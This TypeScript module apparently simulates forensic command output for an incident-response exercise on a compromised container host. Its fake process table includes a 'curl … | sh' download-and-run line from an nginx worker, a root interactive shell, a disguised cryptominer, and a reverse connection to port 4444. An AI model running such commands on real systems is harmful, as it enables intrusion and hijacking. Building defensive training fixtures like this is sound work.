import { gzipSync } from 'node:zlib';
import type { Host } from './hosts.ts';

type Output = string | Uint8Array;
type Program = (host: Host, line: string, now: number) => Output;

/** What the programs that collect evidence would say on this host at this moment; undefined for one it has not. */
export function evidenceOf(
	host: Host,
	now: number,
	[program = '', ...words]: readonly string[],
): Output | undefined {
	return Object.hasOwn(programs, program)
		? programs[program]?.(host, words.join(' '), now)
		: undefined;
}

const programs: Readonly<Record<string, Program>> = {
	date: (_host, _line, now) => `${new Date(now).toISOString().slice(0, 19)}Z\n`,
	uname: ({ id }) => `Linux ${id} 6.1.0-40-amd64 #1 SMP Debian 6.1.153-1 x86_64 GNU/Linux\n`,
	uptime: ({ load }) =>
		` up 41 days, 3:07,  1 user,  load average: ${load.toFixed(2)}, 1.10, 0.92\n`,
	who: () =>
		'NAME       LINE         TIME             IDLE          PID COMMENT\nolga     + pts/0        2026-11-21 13:02 00:04        3120 (10.0.0.4)\n',
	last: () => 'olga     pts/0        10.0.0.4         Sat Nov 21 13:02:11 2026   still logged in\n',
	lastb: () => '\nbtmp begins Sat Oct 11 10:11:02 2026\n',
	getent: (_host, line) => (line === 'passwd' ? users : '10.0.0.2 STREAM salt\n'),
	ps: () => processes,
	lsof: (_host, line) => (line.includes('+L1') ? deletedFiles : openFiles),
	ip: network,
	'iptables-save': () => '',
	systemctl: (_host, line) => units(line),
	find: (_host, line) => found(line),
	tar: (host, _line, now) => gzipSync(tarOf('var/log/auth.log', authLog(host), now)),
	journalctl: ({ id }, _line, now) =>
		`__REALTIME_TIMESTAMP=${now}000\n_HOSTNAME=${id}\nSYSLOG_IDENTIFIER=sshd\nMESSAGE=Accepted publickey for olga from 10.0.0.4\n\n`,
};

const users =
	'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nolga:x:1000:1000::/home/olga:/bin/bash\n';
const processes = `    PID    PPID USER     TT       STAT  ELAPSED %CPU   RSS COMMAND
      1       0 root     ?        Ss    3553620  0.0 12340 /sbin/init
    702       1 root     ?        Ssl   3553601  0.4 88120  \\_ /usr/bin/containerd
   4102     702 root     ?        Sl     901233  0.0 14200      \\_ containerd-shim -namespace k8s.io
   4180    4102 www-data ?        S      901230  0.2 22112          \\_ nginx: worker process
   4690    4180 www-data ?        S          40  0.0  1404              \\_ sh -c id; curl -s http://203.0.113.7/x.sh | sh
   4702    4690 root     pts/1    Ss+        38  0.0  3320                  \\_ bash -i
   4711    4702 root     pts/1    Rl+        30 96.2 41900                      \\_ kworkerds -o stratum+tcp://198.51.100.23:3333
    911       1 root     ?        Ssl   3553590  0.1 60110  \\_ /usr/bin/python3 /usr/bin/salt-minion
`;
const deletedFiles =
	'COMMAND    PID USER   FD   TYPE DEVICE SIZE/OFF NLINK  NODE NAME\nkworkerds 4711 root  txt    REG  259,1  2104880     0  4711 /tmp/.x/kworkerds (deleted)\n';
const openFiles = `COMMAND    PID USER   FD   TYPE DEVICE SIZE/OFF NODE NAME
nginx     4180 www-data    6u  IPv4  40112      0t0  TCP *:443 (LISTEN)
bash      4702 root  255u   CHR  136,1      0t0    4 /dev/pts/1
kworkerds 4711 root    3u  IPv4  51200      0t0  TCP *:43210->203.0.113.7:4444 (ESTABLISHED)
`;
const changedFiles =
	'2026-11-21+13:44:58 root 2104880 /tmp/.x/kworkerds\n2026-11-21+13:44:57 root 1871 /etc/passwd\n';

function network({ address, id }: Host, line: string): string {
	if (line.includes('addr'))
		return `2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 state UP\n    inet ${address}/16 brd 10.0.255.255 scope global eth0\n`;
	if (line.includes('route')) return `default via 10.0.0.1 dev eth0 src ${address}\n`;
	return `10.0.0.1 dev eth0 lladdr 02:42:0a:00:00:01 REACHABLE\n10.0.0.2 dev eth0 lladdr 02:42:0a:00:00:02 STALE # ${id}\n`;
}

function units(line: string): string {
	if (line.includes('timers'))
		return 'NEXT                        LEFT    LAST                        UNIT            ACTIVATES\nSun 2026-11-22 00:00:00 UTC 10h     Sat 2026-11-21 00:00:00 UTC logrotate.timer logrotate.service\n';
	return 'UNIT FILE           STATE   PRESET\ncontainerd.service  enabled enabled\nsalt-minion.service enabled enabled\nssh.service         enabled enabled\n';
}

/** Which of the searches it is, by what each alone says. */
function found(line: string): string {
	if (line.includes('-name exe'))
		return '/proc/1/exe /usr/lib/systemd/systemd\n/proc/4711/exe /tmp/.x/kworkerds (deleted)\n';
	if (line.includes('cron'))
		return '==> /etc/cron.d/logrotate <==\n0 0 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n';
	if (line.includes('-newermt')) return changedFiles;
	if (line.includes('-perm')) return '/usr/bin/passwd\n/usr/bin/su\n/usr/bin/sudo\n';
	return '9f2c51d7b04e6a83c1d5e0f7a92b46388d70e1c4b5f6a7988190a2b3c4d5e6f7  /usr/bin/curl\n';
}

function authLog({ id }: Host): string {
	return `Nov 21 13:02:11 ${id} sshd[3101]: Accepted publickey for olga from 10.0.0.4 port 50122 ssh2\n`;
}

const block = 512;

/** An archive of one file, as ustar has it. */
function tarOf(name: string, text: string, now: number): Uint8Array {
	const octal = (value: number, digits: number) => `${value.toString(8).padStart(digits, '0')}\0`;
	const content = Buffer.from(text);
	const header = Buffer.alloc(block);
	header.write(name);
	header.write(octal(0o640, 7) + octal(0, 7) + octal(4, 7), 100);
	header.write(octal(content.length, 11) + octal(Math.floor(now / 1000), 11), 124);
	header.write('        0', 148);
	header.write('ustar\0' + '00', 257);
	const sum = header.reduce((all, byte) => all + byte, 0);
	header.write(`${octal(sum, 6)} `, 148);
	const padding = Buffer.alloc((block - (content.length % block)) % block);
	return Buffer.concat([header, content, padding, Buffer.alloc(2 * block)]);
}
